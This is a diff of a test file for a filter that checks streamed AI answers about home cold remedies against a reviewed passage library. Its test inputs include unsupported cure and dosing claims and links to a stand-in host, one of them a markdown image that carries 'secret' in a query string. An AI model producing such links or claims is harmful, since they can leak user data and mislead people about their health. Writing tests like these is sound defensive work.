@@ -3,27 +3,28 @@ import { describe, expect, it } from "vitest";
 import { isQuotable } from "../answer/quotable.ts";
 import { LIBRARY, libraryWith, REVIEWED } from "../passages/library-for-tests.ts";
 import type { Passage } from "../passages/passages.ts";
+import type { CitableField } from "./fields.ts";
 import { ANSWER_MOST, NOT_IN_LIBRARY, SENTENCE_MOST, SentenceGate } from "./gate.ts";
 import { checkSentence } from "./sentence-checks.ts";
-import type { NumberedSource } from "./sources.ts";
-import { rarityIn } from "./support.ts";
 
-function source(n: number, id: string, library: readonly Passage[] = LIBRARY): NumberedSource {
+/** All fields of a page under one number. */
+function source(n: number, id: string, library: readonly Passage[] = LIBRARY): readonly CitableField[] {
   const passages = library.filter(({ document }) => document.id === id);
-  const [first] = passages;
-  if (first === undefined) throw new Error(`no page ${id}`);
-  return { n, document: first.document, passages };
+  if (passages.length === 0) throw new Error(`no page ${id}`);
+  return passages.map((passage) => ({ n, source: n, passage }));
 }
-const SOURCES = [source(1, "remedy:ginger-tea"), source(2, "remedy:honey-at-night")];
+const asked = (fields: readonly CitableField[]) => ({ question: "", language: "en", fields }) as const;
+const SOURCES = [...source(1, "remedy:ginger-tea"), ...source(2, "remedy:honey-at-night")];
 const TRUE = "Ginger tea is a warm drink that many find soothing during a cold [1].";
 
 /** What a gate makes of an answer that arrives in one piece. */
-function through(text: string, sources = SOURCES) {
-  const gate = new SentenceGate(sources);
+function through(text: string, sources: readonly CitableField[] = SOURCES) {
+  const gate = new SentenceGate(asked(sources));
   const released = [...gate.push(text), ...gate.end()];
   return { texts: released.map((one) => one.text), shown: released, ...gate.verdict };
 }
-const reasonFor = (sentence: string, sources = SOURCES) => through(`${TRUE} ${sentence}`, sources).dropped;
+const reasonFor = (sentence: string, sources: readonly CitableField[] = SOURCES) =>
+  through(`${TRUE} ${sentence}`, sources).dropped;
 
 describe("what a bad model writes is stopped", () => {
   it.each([
@@ -74,7 +75,7 @@ describe("what a bad model writes is stopped", () => {
     ["dose", "Sip ginger tea in the morning and at night, a cup each time [1]."],
     ["claim", "Ginger tea cures a cold [1]."],
     ["claim", "A guaranteed warm drink for a cold, ginger tea [1]."],
-    ["medicine", "Ginger tea goes well with paracetamol during a cold [1]."],
+    ["name", "Ginger tea goes well with paracetamol during a cold [1]."],
     ["link", "Ginger tea is a warm drink, see [this page](https://evil.example/ginger) [1]."],
     ["link", "Ginger tea is a warm drink, see www.evil.example for a cold [1]."],
     ["link", "Ginger tea is a warm drink ![x](https://evil.example/?q=secret) for a cold [1]."],
@@ -106,8 +107,8 @@ describe("what a bad model writes is stopped", () => {
   });
 
   it("opposite: what a topic's page says of antibiotics, turned round", () => {
-    expect(reasonFor("Antibiotics work against a virus [1].", [source(1, "topic:cold")]).at(-1)).toBe("opposite");
-    expect(reasonFor("Antibiotics do not work against a virus [1].", [source(1, "topic:cold")])).toHaveLength(1);
+    expect(reasonFor("Antibiotics work against a virus [1].", source(1, "topic:cold")).at(-1)).toBe("opposite");
+    expect(reasonFor("Antibiotics do not work against a virus [1].", source(1, "topic:cold"))).toHaveLength(1);
   });
 
   it("in Hindi too", () => {
@@ -159,19 +160,19 @@ describe("what is near to it passes", () => {
     expect(shown).toMatchObject([
       { text: "Sip it warm, never scalding.", n: 1, quoted: "Sip it warm, never scalding." },
     ]);
-    expect(shown[0]?.passageId).toBe("remedy:ginger-tea#food-1");
+    expect(shown).toMatchObject([{ passage: { id: "remedy:ginger-tea#food-1" } }]);
   });
 
   it("word for word, whatever the rules of wording: our pages may say what a model may not", () => {
     const pressure = source(1, "remedy:less-salt");
-    expect(through("Do not stop, skip or lower a tablet without your doctor. [1]", [pressure]).dropped).toEqual([]);
+    expect(through("Do not stop, skip or lower a tablet without your doctor. [1]", pressure).dropped).toEqual([]);
   });
 
   it("word for word, every sentence of the library that an answer may quote", () => {
     for (const passage of LIBRARY) {
-      const cited = [{ n: 1, document: passage.document, passages: [passage] }];
+      const cited = [{ n: 1, source: 1, passage }];
       for (const sentence of passage.sentences.filter((one) => isQuotable(one, passage))) {
-        const checked = checkSentence(`${sentence} [1]`, cited, rarityIn([passage]));
+        const checked = checkSentence(`${sentence} [1]`, asked(cited));
         expect(checked, sentence).toMatchObject({ ok: true, sentence: { text: sentence, quoted: sentence } });
       }
     }
@@ -181,10 +182,10 @@ describe("what is near to it passes", () => {
     const inFood = "Stir 5 ml of the juice into warm water.";
     const draft = libraryWith((remedy) => ({ ...remedy, inFood }));
     const read = libraryWith((remedy) => ({ ...remedy, inFood, review: REVIEWED }));
-    expect(through(`${inFood} [1]`, [source(1, "remedy:ginger-tea", draft)]).dropped).toEqual(["dose"]);
-    expect(through(`${inFood} [1]`, [source(1, "remedy:ginger-tea", read)]).dropped).toEqual([]);
+    expect(through(`${inFood} [1]`, source(1, "remedy:ginger-tea", draft)).dropped).toEqual(["dose"]);
+    expect(through(`${inFood} [1]`, source(1, "remedy:ginger-tea", read)).dropped).toEqual([]);
     expect(
-      through("Stir 5 ml of the strong juice into warm water. [1]", [source(1, "remedy:ginger-tea", read)]).dropped,
+      through("Stir 5 ml of the strong juice into warm water. [1]", source(1, "remedy:ginger-tea", read)).dropped,
     ).toEqual(["dose"]);
   });
 });
@@ -203,7 +204,7 @@ describe("when the embedded answer takes the model's place", () => {
   });
 
   it("does not wait for the end of what is lost", () => {
-    const gate = new SentenceGate(SOURCES);
+    const gate = new SentenceGate(asked(SOURCES));
     gate.push("Ginger cures colds [1]. Ginger cures flu [1]. Ginger cures all [1]. And so on [1]. ");
     expect(gate.isHopeless).toBe(true);
     expect(gate.push(`${TRUE} `)).toEqual([]);
@@ -221,7 +222,7 @@ describe("when the embedded answer takes the model's place", () => {
 
 describe("a stream of any shape", () => {
   it("shows each sentence as soon as it is finished, and not before", () => {
-    const gate = new SentenceGate(SOURCES);
+    const gate = new SentenceGate(asked(SOURCES));
     expect(gate.push("Ginger tea is a warm drink that many find")).toEqual([]);
     expect(gate.push(" soothing.")).toEqual([]);
     expect(gate.push(" [")).toEqual([]);
@@ -235,7 +236,7 @@ describe("a stream of any shape", () => {
     const whole = through(text).texts;
     fc.assert(
       fc.property(fc.array(fc.integer({ min: 0, max: text.length }), { maxLength: 30 }), (cuts) => {
-        const gate = new SentenceGate(SOURCES);
+        const gate = new SentenceGate(asked(SOURCES));
         const places = [0, ...cuts.toSorted((one, other) => one - other), text.length];
         const texts = places.slice(1).flatMap((place, at) => gate.push(text.slice(places[at], place)));
         expect([...texts, ...gate.end()].map((one) => one.text)).toEqual(whole);
@@ -248,7 +249,7 @@ describe("a stream of any shape", () => {
     const garbage = ["x", "<b>", "a. ", "\n", "[1", "![", "((((", "।", "\ud83c"];
     for (const piece of garbage) {
       expect(through(piece.repeat(10_000_000 / piece.length))).toMatchObject({ texts: [], fallback: true });
-      const gate = new SentenceGate(SOURCES);
+      const gate = new SentenceGate(asked(SOURCES));
       for (let drop = 0; drop < 20_000; drop += 1) gate.push(piece.repeat(8));
       gate.end();
     }
